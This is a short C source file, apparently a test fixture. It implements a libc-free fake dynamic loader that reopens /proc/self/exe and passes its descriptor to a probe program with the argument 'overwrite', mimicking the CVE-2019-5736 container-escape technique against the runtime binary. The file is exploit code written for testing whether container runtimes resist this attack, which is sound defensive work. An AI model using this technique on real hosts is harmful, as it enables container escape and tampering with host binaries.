/* SPDX-License-Identifier: MIT */
/*
 * evil_loader.c - a dynamic loader as a container root would write it: keeps
 * the program that it is to load open and executes `probe overwrite` on it
 * (CVE-2019-5736).  No libc, no relocations.
 */
#include <sys/syscall.h>

#include "rawcall.h"

#if defined(__x86_64__)
/* Nobody called this, so the stack is aligned otherwise than in a function. */
__attribute__((force_align_arg_pointer))
#endif
void _start(void);

void _start(void)
{
	char exe[] = "/proc/self/exe";
	char program[] = "/bin/probe";
	char word[] = "overwrite";
	char handle[] = "/proc/self/fd/9";
	char *argv[4];
	char *envp[1];
	long fd = call(SYS_openat, -100, (long)exe, 0, 0);

	argv[0] = program;
	argv[1] = word;
	argv[2] = handle;
	argv[3] = 0;
	envp[0] = 0;
	call(SYS_dup3, fd, 9, 0, 0);
	call(SYS_execve, (long)program, (long)argv, (long)envp, 0);
	call(SYS_exit, 77, 0, 0, 0);
	__builtin_unreachable();
}
